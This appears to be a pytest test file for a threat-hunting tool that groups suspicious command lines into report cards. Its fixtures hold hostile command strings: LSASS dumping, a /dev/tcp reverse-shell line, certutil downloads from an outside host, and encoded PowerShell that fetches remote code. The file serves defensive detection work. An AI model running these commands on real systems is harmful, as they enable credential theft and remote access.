"""Which risky command lines share a card, and which must never."""

import base64
from datetime import UTC, datetime
from typing import Any

import polars as pl
import pytest

from huntkit.report.alike import alike
from huntkit.report.encoded import encoded

WHEN = datetime(2026, 3, 3, 9, 12, 31, tzinfo=UTC)


def powershell(script: str) -> str:
    return "powershell -enc " + base64.b64encode(script.encode("utf-16-le")).decode()


def risky(*lines: str, **changes: Any) -> pl.DataFrame:
    base = {"Severity": "high", "Titles": ["a"], "Hosts": ["ws1"], "Users": ["al"],
            "First": WHEN, "Last": WHEN}  # fmt: skip
    return pl.DataFrame([{**base, "Input": line, **changes} for line in lines])


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ('name="T"; value="SySTEM.NET.WeBClient"', 'name="T"; value="System.Net.WebClient"'),
        (r'"C:\windows\a.exe" -ma lsass', r"c:\Windows\a.exe  -ma lsass "),
        (r"rundll32 comsvcs.dll MiniDump 624 x", r"rundll32 comsvcs.dll MiniDump 7120 x"),
        (r"dir 1> \\127.0.0.1\ADMIN$\__1600000000.12", r"dir 1> \\127.0.0.1\ADMIN$\__1600000777.3"),
        (r"certutil -f http://198.51.100.9:8080/a x", r"certutil -f http://198.51.100.9:4444/a x"),
        (r"mshta C:\Temp\tmp4f2A.hta", r"mshta C:\Temp\tmp99b1.hta"),
        ("bash -i /dev/tcp/192.0.2.1 4444", "bash -i /dev/tcp/192.0.2.1 4445"),
    ],
)  # fmt: skip
def test_lines_that_say_the_same_share_a_card(one: str, other: str) -> None:
    [row] = alike(risky(one, other), pl.DataFrame())
    assert (row["Input"], row["Alike"]) == (one, 1)


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("certutil -f http://198.51.100.9/a x", "certutil -f http://198.51.100.10/a x"),
        ("certutil -f http://198.51.100.9/1001 x", "certutil -f http://198.51.100.9/1002 x"),
        (r"copy a \\ws101\c$", r"copy a \\ws102\c$"),
        (r"C:\Temp\mimikatz.exe", r"C:\Temp\procdump.exe"),
        ("ping 192.168.100.200", "ping 192.168.100.201"),
        ("reg add x /d 0", "reg add x /d 1"),
        ("curl -o /tmp/A", "curl -o /tmp/a"),
        (powershell("IEX 'http://a.example/Ab'"), powershell("IEX 'http://a.example/aB'")),
        ("x [char[]](105,101,120,100,101)", "x [char[]](105,101,120,100,102)"),
        ("a\x00b", "a\x00c"),
    ],
)
def test_another_payload_is_another_card(one: str, other: str) -> None:
    assert [row["Alike"] for row in alike(risky(one, other), pl.DataFrame())] == [0, 0]


def test_what_is_encoded_counts_as_what_it_says() -> None:
    code = powershell("Get-Process lsass | Stop-Process -Force").split()[-1]
    spelt = powershell("Get-Process lsass |  Stop-Process -Force").split()[-1]
    lines = [f"powershell -enc {code}", f'"powershell" -enc  {spelt}', f"wmic call {code}"]
    schema = {"text": pl.String, "table": pl.String, "column": pl.String, "rows": pl.Int64,
              "first": pl.Datetime("us", "UTC"), "last": pl.Datetime("us", "UTC"),
              "host": pl.String, "user": pl.String, "_file": pl.String, "_record": pl.Int64,
              }  # fmt: skip
    texts = pl.DataFrame(
        [(line, "T", "CommandLine", 1, WHEN, WHEN, "", "", "a", 1) for line in lines],
        schema=schema,
        orient="row",
    )
    found = alike(risky(*lines), encoded(texts))
    assert [row["Alike"] for row in found] == [1, 0]


def test_other_rules_or_severity_are_another_card() -> None:
    rows = pl.concat([risky("a"), risky("A", Titles=["b"]), risky("A", Severity="low")])
    assert len(alike(rows, pl.DataFrame())) == 3


def test_a_card_tells_all_hosts_and_accounts_and_the_whole_time() -> None:
    later = WHEN.replace(hour=11)
    rows = pl.concat([risky("a b"), risky("A B", Hosts=["ws2"], Users=["bo", "A\\al"], Last=later)])
    [row] = alike(rows, pl.DataFrame())
    assert (row["Hosts"], row["Users"]) == (["ws1", "ws2"], ["A\\al", "bo"])
    assert (row["First"], row["Last"]) == (WHEN, later)


def test_hostile_lines_take_no_time_and_none_is_lost() -> None:
    texts = ["/tmp/" * 20_000, "\\temp\\" * 20_000, "1.1" * 30_000, "http://" * 14_000, "\x00" * 99]
    assert len(alike(risky(*texts), pl.DataFrame())) == len(texts)


def test_no_lines_give_no_cards() -> None:
    assert alike(pl.DataFrame(), pl.DataFrame()) == []
